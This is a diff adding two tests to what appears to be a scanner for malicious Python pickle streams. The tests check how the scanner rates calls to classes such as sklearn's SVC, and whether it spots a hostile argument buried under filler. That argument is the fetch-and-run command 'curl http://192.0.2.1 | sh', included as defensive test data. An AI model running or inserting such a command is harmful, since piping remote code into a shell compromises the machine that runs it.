@@ -90,3 +90,23 @@ def test_any_other_word_of_such_a_class_is_judged(word: str, before: bytes) -> N
 def test_such_a_word_given_to_another_class_is_judged() -> None:
     data = make.stream(make.stacked("pandas", "PeriodDtype"), make.text("python"), b"\x85R")
     assert set(facts(data)) == {"hostile_argument"}
+
+
+def test_a_worse_call_of_a_name_is_told_though_a_lesser_one_came_before() -> None:
+    function = make.stacked("sklearn.svm._classes", "SVC") + b"\x94"
+    lesser = b"h\x00K\x01K\x02\x86R0"
+    worse = b"h\x00" + make.text("abc") + b"K\x02\x86R"
+    for calls, dangers in (
+        (lesser + worse, [Severity.LOW, Severity.MEDIUM]),
+        (worse + b"0" + lesser, [Severity.MEDIUM]),
+    ):
+        found = inspect(Window.of(make.stream(function + b"0" + calls))).facts
+        assert [fact.danger for fact in found if fact.kind is FactKind.UNVERIFIED_CLASS] == dangers
+
+
+def test_an_argument_is_seen_before_what_fills_up_the_others() -> None:
+    function = make.stacked("unheard.of", "build")
+    fillers = b"](" + b"".join(b"](" + b"K\x01" * 250 + b"e" for _ in range(20)) + b"e"
+    call = make.text("curl http://192.0.2.1 | sh") + fillers + b"\x86R"
+    found = inspect(Window.of(make.stream(function + call))).facts
+    assert FactKind.HOSTILE_ARGUMENT in {fact.kind for fact in found}
